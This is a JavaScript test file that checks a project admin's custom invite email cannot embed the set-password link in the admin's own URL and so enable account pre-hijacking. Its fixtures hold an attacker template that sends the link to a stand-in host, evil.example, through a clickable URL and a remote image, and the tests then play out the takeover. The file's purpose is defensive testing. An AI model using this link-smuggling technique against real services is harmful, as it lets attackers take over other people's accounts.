// SPDX-License-Identifier: BSD-2-Clause
// Review 2 of issue 14 (finding 3 through finding 5's remaining risk): a project admin's
// `invite` override may place {{link}} inside a URL of their own host. A new server-scoped
// invitee who opens that email (a click, or a remote image the mail client loads) hands the
// set-password link to that host; using it sets the password AND verifies the address, so the
// account is a verified global account held by the attacker, and a later invite from any other
// project (the victim's employer) is attached to it unchanged: pre-hijacking again.
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import {
  appBase, authLogin, bearer, createSigninFixture, dbExec, dbQuery, http, pkcePair, postJson, redeemCode, signIn,
  uniqueEmail, waitForMail,
} from './lib.mjs';

const APP_BASE = appBase();
const FHIR = { 'Content-Type': 'application/fhir+json' };
const ATTACKER_PASSWORD = 'Smuggled_Link_Orchard_58';

async function adminFixture(prefix) {
  const fx = createSigninFixture(prefix);
  dbExec('UPDATE project_membership SET admin = TRUE WHERE id = ?', [fx.membershipId]);
  const { tokens } = await signIn(fx);
  fx.headers = { Authorization: bearer(tokens.access_token), ...FHIR };
  return fx;
}

const putTemplate = (fx, name, body) =>
  http(`admin/projects/${fx.projectId}/email-templates/${name}`, { method: 'PUT', headers: fx.headers, body: JSON.stringify(body) });
const invite = (fx, email, extra = {}) =>
  postJson(`admin/projects/${fx.projectId}/invite`, { resourceType: 'Practitioner', firstName: 'Val', lastName: 'Victim', email, ...extra }, fx.headers);

/** Every set-password link in a text, with what stands right before it. */
function links(text) {
  return [...text.matchAll(/(\S*)setpassword\/([0-9a-f-]{36})\/([0-9a-f]{32})/g)]
    .map((m) => ({ url: m[0], base: m[1], id: m[2], secret: m[3] }));
}

describe('a project override never carries a link that opens a global account', () => {
  it("an invite override that wraps {{link}} in the admin's URL does not reach a new server-scoped invitee", async () => {
    const evil = await adminFixture('r2-evil');
    const employer = await adminFixture('r2-employer');
    const victim = uniqueEmail('r2-victim');
    const trap = 'Accept: https://evil.example/go?next={{link}}';
    const put = await putTemplate(evil, 'invite', { subject: 'Welcome', bodyText: trap, bodyHtml: `<p>${trap}</p><img src="https://evil.example/px?l={{link}}">` });
    assert.equal(put.status, 200, put.text); // accepted: {{link}} renders
    const inv = await invite(evil, victim);
    assert.equal(inv.status, 200, inv.text);
    const [mail] = await waitForMail(victim);
    const found = links(mail.text);
    assert.ok(found.length > 0, mail.text);
    // The link the person receives stands on its own, under app_base_url: not inside another URL.
    for (const l of found) {
      assert.equal(l.base, APP_BASE, `the link is embedded in: ${l.url}`);
    }
    assert.ok(!mail.raw.includes('evil.example'), 'the admin\'s override was used for a global account\'s link');
  });

  it('end to end: what the override could leak never makes a verified account that another project\'s invite reuses', async () => {
    const evil = await adminFixture('r2-evil2');
    const employer = await adminFixture('r2-employer2');
    const victim = uniqueEmail('r2-victim2');
    await putTemplate(evil, 'invite', { subject: 'Welcome', bodyText: 'Accept: https://evil.example/go?next={{link}}' });
    assert.equal((await invite(evil, victim)).status, 200);
    const [mail] = await waitForMail(victim);
    // What the evil host can collect: only links it received inside its own URL.
    const leaked = links(mail.text).filter((l) => l.url.includes('evil.example'));
    for (const l of leaked) {
      // The evil host got this link (the victim clicked, or the mail client loaded an image).
      const set = await postJson('auth/setpassword', { id: l.id, secret: l.secret, password: ATTACKER_PASSWORD }, FHIR);
      assert.equal(set.status, 200, set.text);
    }
    // The employer invites the victim as an admin.
    const inv = await invite(employer, victim, { admin: true });
    assert.equal(inv.status, 200, inv.text);
    // The attacker's password must not reach the employer's membership.
    const pkce = pkcePair();
    const r = await authLogin({ email: victim, password: ATTACKER_PASSWORD, clientId: employer.clientId, pkce });
    if (r.status === 200 && r.json?.code) {
      const t = await redeemCode(r.json.code, { clientId: employer.clientId, verifier: pkce.verifier });
      assert.notEqual(t.status, 200, `the attacker holds the employer's admin membership: ${t.text}`);
    } else {
      assert.notEqual(r.status, 200, r.text);
    }
  });
});
